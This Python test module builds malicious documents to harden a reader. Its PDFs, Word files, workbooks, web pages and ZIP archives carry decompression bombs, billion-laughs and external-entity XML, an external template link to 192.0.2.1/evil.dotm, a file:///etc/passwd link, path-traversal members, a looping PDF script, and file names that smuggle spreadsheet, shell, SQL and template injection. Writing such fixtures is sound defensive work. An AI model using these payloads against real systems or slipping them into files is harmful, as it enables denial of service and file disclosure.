"""Documents that were made to harm a reader: to exhaust it, to mislead it, or to get out of it.

Belongs here: one function per format, each yielding (name, bytes), the same bytes each time. Does not belong here: damage at random
(`mutated_documents`), and reading.
"""

from __future__ import annotations

import hashlib
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

from tests.faults.site import zip_of

Document = tuple[str, bytes]
Change = Callable[[bytes], bytes]

PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]%s>>"


def plain_pdf(*objects: bytes, trailer: bytes = b"", lie: int = 0) -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalogue. `lie` is added to every place that the xref tells."""
    data = b"%PDF-1.7\n"
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(len(data))
        data += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(data)
    data += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    data += b"".join(b"%010d 00000 n \n" % max(0, place + lie) for place in places)
    return data + b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)


def stream(data: bytes, entries: bytes = b"", packed: bool = False) -> bytes:
    """A stream object."""
    body = zlib.compress(data) if packed else data
    filters = b"/Filter/FlateDecode" if packed else b""
    return b"<</Length %d%s%s>>stream\n" % (len(body), filters, entries) + body + b"\nendstream"


def _zeros(megabytes: int) -> bytes:
    """So many million zero bytes as zlib packs them, without packing them all: one packed million, again and again."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    million = packer.compress(bytes(1_000_000)) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = ((megabytes * 1_000_000 % 65521) << 16) | 1
    return b"\x78\xda" + million * megabytes + packer.flush() + struct.pack(">I", checksum)


CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
ONE_PAGE = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def pdfs(sound: bytes) -> Iterator[Document]:
    """Page trees, forms, pictures, cross references, encryption and attachments that lead a reader astray."""
    yield (
        "a page tree that goes round.pdf",
        plain_pdf(
            CATALOGUE,
            b"<</Type/Pages/Kids[3 0 R]/Count 9>>",
            b"<</Type/Pages/Parent 2 0 R/Kids[4 0 R]/Count 9>>",
            b"<</Type/Pages/Parent 3 0 R/Kids[2 0 R 3 0 R]/Count 9>>",
        ),
    )
    deep = [
        b"<</Type/Pages/Parent %d 0 R/Kids[%d 0 R]/Count 1>>" % (number - 1, number + 1) for number in range(3, 5003)
    ]
    yield "a page tree five thousand deep.pdf", plain_pdf(CATALOGUE, ONE_PAGE, *deep, PAGE % b"")
    itself = b"/Type/XObject/Subtype/Form/BBox[0 0 99 99]/Resources<</XObject<</A 5 0 R>>>>"
    forms = PAGE % b"/Contents 4 0 R/Resources<</XObject<</A 5 0 R>>>>"
    yield (
        "a form that draws itself.pdf",
        plain_pdf(CATALOGUE, ONE_PAGE, forms, stream(b"/A Do " * 50), stream(b"/A Do /A Do", itself)),
    )
    chain = [
        stream(
            b"/A Do " * 10,
            b"/Type/XObject/Subtype/Form/BBox[0 0 99 99]/Resources<</XObject<</A %d 0 R>>>>" % (number + 1),
        )
        for number in range(5, 17)
    ]
    last = stream(b"0 0 9 9 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 99 99]")
    yield (
        "forms that draw ten forms each, twelve deep.pdf",
        plain_pdf(CATALOGUE, ONE_PAGE, forms, stream(b"/A Do " * 10), *chain, last),
    )
    picture = (
        b"/Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent 8/ColorSpace/DeviceGray/Filter/FlateDecode"
    )
    shown = PAGE % b"/Contents 4 0 R/Resources<</XObject<</A 5 0 R>>>>"
    bomb = _zeros(900)
    entries = picture % (30_000, 30_000)
    body = b"<</Length %d%s>>stream\n" % (len(bomb), entries) + bomb + b"\nendstream"
    yield (
        "a picture of nine hundred megabytes.pdf",
        plain_pdf(CATALOGUE, ONE_PAGE, shown, stream(b"99 0 0 99 0 0 cm /A Do"), body),
    )
    lying = (
        b"<</Length 8%s>>stream\n" % (picture % (2_000_000_000, 2_000_000_000)) + b"x\x9c\x03\0\0\0\0\x01\nendstream"
    )
    yield (
        "a picture as wide as it is nothing.pdf",
        plain_pdf(CATALOGUE, ONE_PAGE, shown, stream(b"99 0 0 99 0 0 cm /A Do"), lying),
    )
    pages = [PAGE % b"/Contents 4 0 R" if number else PAGE % b"" for number in range(10_000)]
    kids = b" ".join(b"%d 0 R" % number for number in range(5, 5 + len(pages)))
    told = stream(b"BT /F 9 Tf 9 9 Td (1,250.50) Tj ET")
    yield (
        "ten thousand pages.pdf",
        plain_pdf(CATALOGUE, b"<</Type/Pages/Kids[%s]/Count 10000>>" % kids, b"null", told, *pages),
    )
    yield (
        "an xref that is off by some bytes.pdf",
        plain_pdf(CATALOGUE, ONE_PAGE, PAGE % b"/Contents 4 0 R", told, lie=7),
    )
    yield "an xref of other places.pdf", plain_pdf(CATALOGUE, ONE_PAGE, PAGE % b"", lie=1_000_000)
    yield "an xref before itself.pdf", plain_pdf(CATALOGUE, ONE_PAGE, PAGE % b"", trailer=b"/Prev 9")
    round_and_round = plain_pdf(CATALOGUE, ONE_PAGE, PAGE % b"")
    start = round_and_round.rindex(b"xref\n0")
    yield (
        "an xref whose former one is itself.pdf",
        round_and_round.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % start),
    )
    handler = b"/Encrypt<</Filter/Foreign.Handler/V 9/R 9/Length 4096/O(x)/U(y)/P -1>>/ID[<00><00>]"
    yield "encrypted by a foreign handler.pdf", plain_pdf(CATALOGUE, ONE_PAGE, PAGE % b"", trailer=handler)
    public = b"/Encrypt<</Filter/Adobe.PubSec/SubFilter/adbe.pkcs7.s5/V 4/Recipients[(x)]>>/ID[<00><00>]"
    yield "encrypted for somebody's key.pdf", plain_pdf(CATALOGUE, ONE_PAGE, PAGE % b"", trailer=public)
    standard = b"/Encrypt<</Filter/Standard/V 5/R 6/Length 256/O(%s)/U(%s)/OE(x)/UE(x)/Perms(x)/P -1>>/ID[<00><00>]"
    yield (
        "encrypted with a password.pdf",
        plain_pdf(CATALOGUE, ONE_PAGE, PAGE % b"", trailer=standard % (b"o" * 48, b"u" * 48)),
    )
    names = b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(../../../tmp/escaped)4 0 R]>>/JavaScript<</Names[(a)6 0 R]>>>>/OpenAction 6 0 R>>"
    yield (
        "with files inside and a script.pdf",
        plain_pdf(
            names, ONE_PAGE, PAGE % b"", b"<</Type/Filespec/F(../../../tmp/escaped)/EF<</F 5 0 R>>>>",
            stream(b"x" * 1000, b"/Type/EmbeddedFile"), b"<</S/JavaScript/JS(while(true){app.launchURL('file:///')})>>",
        ),
    )  # fmt: skip
    font = (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 49/LastChar 49/Widths[9]"
        b"/Encoding<</Differences[49/a]>>/CharProcs<</a 6 0 R>>/Resources<</Font<</F 5 0 R>>>>>>"
    )
    yield (
        "a letter that writes itself.pdf",
        plain_pdf(
            CATALOGUE, ONE_PAGE, PAGE % b"/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>",
            stream(b"BT /F 9 Tf (111) Tj ET"), font, stream(b"9 0 d0 BT /F 9 Tf (1) Tj ET"),
        ),
    )  # fmt: skip
    saved = stream(b"q " * 3_000_000, packed=True)
    yield "states saved three million times.pdf", plain_pdf(CATALOGUE, ONE_PAGE, PAGE % b"/Contents 4 0 R", saved)
    layers = zlib.compress(zlib.compress(zlib.compress(bytes(100_000_000), 9), 9), 9)
    many = (
        b"<</Length %d/Filter[/FlateDecode/FlateDecode/FlateDecode]>>stream\n" % len(layers) + layers + b"\nendstream"
    )
    yield "packed three times.pdf", plain_pdf(CATALOGUE, ONE_PAGE, PAGE % b"/Contents 4 0 R", many)
    packed = zlib.compress(b"1 0 2 0 " + CATALOGUE + b"<<>>")
    objects = b"<</Type/ObjStm/N 1000000000/First 8/Extends 3 0 R/Length %d/Filter/FlateDecode>>stream\n" % len(packed)
    yield "a thousand million objects in one.pdf", plain_pdf(CATALOGUE, ONE_PAGE, objects + packed + b"\nendstream")
    yield "a sound one, a second time behind itself.pdf", sound + sound
    yield "letters beyond any page.pdf", plain_pdf(
        CATALOGUE, ONE_PAGE, PAGE % b"/Contents 4 0 R",
        stream(b"BT /F 1e30 Tf 1e38 0 0 1e38 1e38 -1e38 Tm (1,250.50) Tj (1,250.50) Tj ET 1e38 0 0 1e38 0 0 cm 0 0 1 1 re f"),
    )  # fmt: skip


def words(change: Callable[[Change], bytes], sound: bytes) -> Iterator[Document]:
    """Word documents; `change` makes one with its body changed."""
    cell = b"<w:tc><w:p><w:r><w:t>1.00</w:t></w:r></w:p></w:tc>"
    row = b"<w:tr>" + cell * 20 + b"</w:tr>"
    yield (
        "a table of a hundred thousand cells.docx",
        change(lambda xml: xml.replace(b"<w:body>", b"<w:body><w:tbl>" + row * 5000 + b"</w:tbl>", 1)),
    )
    wide = b"<w:tr>" + cell * 20_000 + b"</w:tr>"
    yield (
        "a row of twenty thousand cells.docx",
        change(lambda xml: xml.replace(b"<w:body>", b"<w:body><w:tbl>" + wide * 3 + b"</w:tbl>", 1)),
    )
    parameter = b'<!DOCTYPE d [<!ENTITY % a SYSTEM "http://192.0.2.1/a"> %a;]>'
    yield "with an entity of parameters.docx", change(lambda xml: parameter + xml.split(b"?>", 1)[1])
    quadratic = b'<!DOCTYPE d [<!ENTITY a "' + b"9" * 100_000 + b'">]>'
    yield (
        "one long entity ten thousand times.docx",
        change(lambda xml: quadratic + xml.split(b"?>", 1)[1].replace(b"</w:t>", b"&a;" * 10_000 + b"</w:t>", 1)),
    )
    yield (
        "a merged cell that never begins.docx",
        change(lambda xml: xml.replace(b"<w:tcPr>", b'<w:tcPr><w:vMerge w:val="continue"/>')),
    )
    with zipfile.ZipFile(io.BytesIO(sound)) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    relations = parts["word/_rels/document.xml.rels"]
    outside = b'<Relationship Id="r99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s" TargetMode="External"/></Relationships>'
    for told, kind, target in (
        ("a template from elsewhere.docx", b"attachedTemplate", b"http://192.0.2.1/evil.dotm"),
        ("a picture of this machine.docx", b"image", b"file:///etc/passwd"),
    ):
        changed = relations.replace(b"</Relationships>", outside % (kind, target))
        yield told, zip_of({**parts, "word/_rels/document.xml.rels": changed})
    upwards = relations.replace(b'Target="', b'Target="../../../../', 1)
    yield "parts outside of the package.docx", zip_of({**parts, "word/_rels/document.xml.rels": upwards})
    yield "parts named like nothing.docx", zip_of({**parts, "../../../../tmp/escaped": b"x", "word/../../e": b"y"})
    yield (
        "a hundred thousand paragraphs in one cell.docx",
        change(lambda xml: xml.replace(b"<w:tc>", b"<w:tc>" + b"<w:p><w:r><w:t>1</w:t></w:r></w:p>" * 100_000, 1)),
    )


def workbooks(change: Callable[[Change], bytes], sound: bytes) -> Iterator[Document]:
    """Workbooks, new and old; `change` makes one with its sheet changed."""
    merges = b"".join(b'<mergeCell ref="A%d:J%d"/>' % (number * 2, number * 2 + 1) for number in range(1, 100_000))
    yield (
        "two hundred thousand merged rows.xlsx",
        change(
            lambda xml: xml.replace(b"</sheetData>", b'</sheetData><mergeCells count="1">' + merges + b"</mergeCells>")
        ),
    )
    yield (
        "merged areas upon each other.xlsx",
        change(
            lambda xml: xml.replace(
                b"</sheetData>", b"</sheetData><mergeCells>" + b'<mergeCell ref="A1:ZZ999"/>' * 50 + b"</mergeCells>"
            )
        ),
    )
    rows = b"".join(
        b'<row r="%d">' % number
        + b"".join(b'<c r="%c%d"><v>1</v></c>' % (65 + at, number) for at in range(20))
        + b"</row>"
        for number in range(100, 10_100)
    )
    yield "two hundred thousand cells.xlsx", change(lambda xml: xml.replace(b"</sheetData>", rows + b"</sheetData>"))
    yield (
        "a diagonal to the end.xlsx",
        change(
            lambda xml: xml.replace(
                b"</sheetData>",
                b"".join(
                    b'<row r="%d"><c r="%s%d"><v>1</v></c></row>' % (number * 300, _letters(number * 4), number * 300)
                    for number in range(1, 3400)
                )
                + b"</sheetData>",
            )
        ),
    )
    yield "numbers that are none.xlsx", change(lambda xml: xml.replace(b"<v>", b"<v>1e999999"))
    yield (
        "a number with a million digits.xlsx",
        change(
            lambda xml: xml.replace(
                b"</sheetData>", b'<row r="90"><c r="A90"><v>' + b"9" * 1_000_000 + b"</v></c></row></sheetData>"
            )
        ),
    )
    with zipfile.ZipFile(io.BytesIO(sound)) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    laughs = b'<!DOCTYPE l [<!ENTITY a "9">' + b"".join(
        b'<!ENTITY %c "%s">' % (98 + index, b"&%c;" % (97 + index) * 10) for index in range(12)
    )
    yield (
        "a billion laughs.xlsx",
        change(lambda xml: laughs + b"]>" + xml[xml.index(b"<worksheet") :].replace(b"<v>", b"<v>&m;", 1)),
    )
    sheet = b'<sheet name="%d" sheetId="%d" r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>'
    book = parts["xl/workbook.xml"]
    start, end = book.index(b"<sheets>") + 8, book.index(b"</sheets>")
    many = book[:start] + b"".join(sheet % (number, number) for number in range(1, 3001)) + book[end:]
    yield "one sheet three thousand times.xlsx", zip_of({**parts, "xl/workbook.xml": many})

    old = _xls()
    yield "sound.xls", old
    for told, at, value in (
        ("a record longer than the file.xls", 2, b"\xff\xff"),
        ("a record of no kind.xls", 0, b"\xee\xee"),
        ("a record of no length.xls", 2, b"\0\0"),
    ):
        body = bytearray(old)
        position = old.index(b"\x09\x08\x10\x00") + 20
        body[position + at : position + at + 2] = value
        yield told, bytes(body)
    yield "ends in its directory.xls", old[: len(old) // 2]
    yield "sectors that go round.xls", _sectors_in_a_circle(old)
    cells = old.replace(struct.pack("<HHHH", 0x0203, 14, 5, 1), struct.pack("<HHHH", 0x0203, 14, 65535, 255))
    yield "a cell in the last corner.xls", cells


def _letters(column: int) -> bytes:
    letters = b""
    while column:
        column, rest = divmod(column - 1, 26)
        letters = bytes([65 + rest]) + letters
    return letters


def _xls() -> bytes:
    """A workbook of Excel 97 written by hand: one sheet with five rows of numbers, in a compound file."""

    def record(kind: int, data: bytes) -> bytes:
        return struct.pack("<HH", kind, len(data)) + data

    def begin(kind: int) -> bytes:
        return record(0x0809, struct.pack("<HHHHII", 0x0600, kind, 0x0DBB, 0x07CC, 0, 6))

    end = record(0x000A, b"")
    font = record(0x0031, struct.pack("<HHHHHBBBB", 200, 0, 0x7FFF, 400, 0, 0, 0, 0, 0) + b"\x05\x00Arial")
    style = record(0x00E0, struct.pack("<HHHBBBBIIH", 0, 0, 0xFFF5, 0x20, 0, 0, 0, 0, 0, 0x20C0))
    head = begin(0x0005) + record(0x0042, struct.pack("<H", 1200)) + record(0x0022, b"\0\0") + font * 4 + style * 16
    name = b"\x05\x00Sheet"
    numbers = b"".join(
        record(0x0203, struct.pack("<HHHd", row, column, 0, row * 10 + column + 0.5))
        for row in range(6)
        for column in range(4)
    )
    sheet = begin(0x0010) + record(0x0200, struct.pack("<IIHHH", 0, 6, 0, 4, 0)) + numbers + end
    place = len(head) + 4 + 6 + len(name) + len(end)
    book = head + record(0x0085, struct.pack("<IBB", place, 0, 0) + name) + end + sheet
    return compound("Workbook", book.ljust(4096, b"\0"))


def compound(name: str, data: bytes) -> bytes:
    """A compound file (OLE) that holds one stream of at least 4096 bytes."""
    count = -(-len(data) // 512)
    chain = [*range(1, count), -2]
    sectors = [*chain, -2, -3]
    table = struct.pack("<128i", *sectors, *([-1] * (128 - len(sectors))))

    def entry(title: str, kind: int, start: int, size: int, child: int) -> bytes:
        text = (title + "\0").encode("utf-16-le")
        return struct.pack(
            "<64sHBBiii16sIQQiII", text, len(text), kind, 1, -1, -1, child, bytes(16), 0, 0, 0, start, size, 0
        )

    directory = entry("Root Entry", 5, -2, 0, 1) + entry(name, 2, 0, count * 512, -1) + bytes(256)
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
    head += struct.pack("<HHHHH6xIIIIIiIiI", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, count, 0, 4096, -2, 0, -2, 0)
    head += struct.pack("<109i", count + 1, *([-1] * 108))
    return head + data.ljust(count * 512, b"\0") + directory + table


def _sectors_in_a_circle(old: bytes) -> bytes:
    """The stream's last sector leads to its first."""
    table = bytearray(old[-512:])
    numbers = list(struct.unpack("<128i", table))
    numbers[numbers.index(-2)] = 0
    return old[:-512] + struct.pack("<128i", *numbers)


def web_pages(html: Callable[[str | None], str]) -> Iterator[Document]:
    """Web pages; `html` makes one with these rows in its table."""
    row = "<tr><td>2010301</td><td>行政运行</td>" + "<td>1.00</td>" * 3 + "</tr>"
    yield "fifty megabytes.html", html(row * (50_000_000 // len(row.encode()))).encode()
    yield "fifty megabytes of a script.html", html("<script>" + "x=1;\n" * 10_000_000 + "</script>").encode()
    yield "a hundred thousand tags deep.html", html("<tr><td>" + "<b><i>" * 50_000 + "1.00").encode()
    yield "lists in lists.html", html("<tr><td>" + "<ul><li>" * 20_000 + "1.00").encode()
    yield "says GB 2312 and is UTF-8.html", html(None).replace("utf-8", "gb2312").encode()
    yield "says UTF-8 and is GB 18030.html", html(None).encode("gb18030")
    yield "says what does not exist.html", html(None).replace("utf-8", "utf-99").encode()
    yield "says UTF-16 and is UTF-8.html", html(None).replace("utf-8", "utf-16").encode()
    yield "half in each.html", html(None).encode() + html(None).encode("gb18030")
    yield (
        "with letters that are nothing.html",
        html("<tr><td>\ud800</td><td>&#0;&#xD800;&#x110000;</td></tr>").encode("utf-8", "surrogatepass"),
    )
    yield (
        "a name of ten megabytes.html",
        ("<html><title>" + "预" * 3_000_000 + "</title><body><table><tr><td>1</td></tr></table>").encode(),
    )
    yield (
        "a mark with a million attributes.html",
        ("<html><body " + " ".join(f"a{number}=1" for number in range(300_000)) + ">").encode(),
    )
    yield (
        "spans that are no numbers.html",
        html('<tr><td rowspan="-1" colspan="nan">1.00</td><td rowspan="1e9" colspan="٣">2.00</td></tr>').encode(),
    )
    yield (
        "one cell over a million columns, a thousand times.html",
        html('<tr><td colspan="1000000">1.00</td></tr>' * 1000).encode(),
    )


def archives(sound: bytes) -> Iterator[Document]:
    """ZIP archives; `sound` is a document to put into them."""
    absolute = {
        f"{name}": sound + name.encode() for name in ("/tmp/escaped.html", "//host/escaped.html", "\\\\host\\e.html")
    }
    yield "absolute paths.zip", zip_of(absolute)
    twice = io.BytesIO()
    with zipfile.ZipFile(twice, "w") as archive:
        for version in (b"one", b"two"):
            info = zipfile.ZipInfo("预算.html")
            # The library warns of what an attacker would not.
            archive.filelist = [entry for entry in archive.filelist if entry is not None]
            archive.NameToInfo.pop(info.filename, None)
            archive.writestr(info, sound + version)
    yield "the same name twice.zip", twice.getvalue()
    nested = zip_of({"a.html": sound})
    for _ in range(50):
        nested = zip_of({"a.zip": nested, "b.zip": nested})
    yield "fifty deep, two in each.zip", nested
    yield "a zip that holds itself.zip", _quine()
    yield "members upon each other.zip", _overlapping(sound)
    lying = bytearray(zip_of({"a.html": sound}))
    place = lying.rindex(b"PK\x01\x02") + 24
    lying[place : place + 4] = struct.pack("<I", 10)
    yield "a member that is larger than it says.zip", bytes(lying)
    lying[place : place + 4] = struct.pack("<I", 0xFFFFFFF0)
    yield "a member that is smaller than it says.zip", bytes(lying)
    yield (
        "names that no one can print.zip",
        zip_of({"\x1b[2J\n\r\x07预算.html": sound, "=cmd|' /C calc'!A0.html": sound + b" "}),
    )
    yield "a path of five thousand folders.zip", zip_of({"a/" * 5000 + "b.html": sound})
    yield "twenty thousand empty members.zip", zip_of({f"{number}": b"" for number in range(20_000)})


def _quine() -> bytes:
    """A gzip-like quine is not needed: an archive whose directory names the whole file as its member does the same."""
    inner = zip_of({"r.zip": b""})
    data = bytearray(inner)
    place = data.rindex(b"PK\x01\x02")
    # The member begins where the archive begins and is as long as it is.
    struct.pack_into("<III", data, place + 16, zlib.crc32(inner), len(inner), len(inner))
    return bytes(data)


def _overlapping(sound: bytes) -> bytes:
    """A thousand entries of the directory share one packed body (a bomb without nesting)."""
    body = zip_of({"a.html": sound + b" " * 3_000_000})
    start = body.index(b"PK\x01\x02")
    end = body.index(b"PK\x05\x06")
    entry = body[start:end]
    directory = entry * 1000
    tail = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1000, 1000, len(directory), start, 0)
    return body[:start] + directory + tail


def names() -> Iterator[str]:
    """File names that are hostile by themselves; what they name is sound."""
    yield "=cmd|' -C calc'!A0.html"
    yield "+1+1.html"
    yield "@SUM(1+9)*cmd.html"
    yield "\x1b[2J\x1b[31m预算\x07.html"
    yield "两行\n的名\r字\t.html"
    yield "..\\..\\windows\\预算.html"
    yield "....html"
    yield "\u202elmth.算预.html"
    yield "预" * 60 + ".html"
    yield "'; drop table document; --.html"
    yield "{{ config }} {% raw %}.html"
    yield "<script>alert(1)</script>.html".replace("/", "\u2215")
    yield "$(touch escaped) `touch escaped`.html"
    yield "-rf.html"
    yield "CON.html"
    # As an old Chinese system names files, and as no system does.
    yield b"\xd4\xa4\xcb\xe3.html".decode("utf-8", "surrogateescape")
    yield b"\xff\xfe\x80.html".decode("utf-8", "surrogateescape")


def distinct(data: bytes, name: str) -> bytes:
    """A sound web page made another document, so that each name has one of its own."""
    return data + f"<!-- {hashlib.sha256(name.encode('utf-8', 'surrogateescape')).hexdigest()} -->".encode()
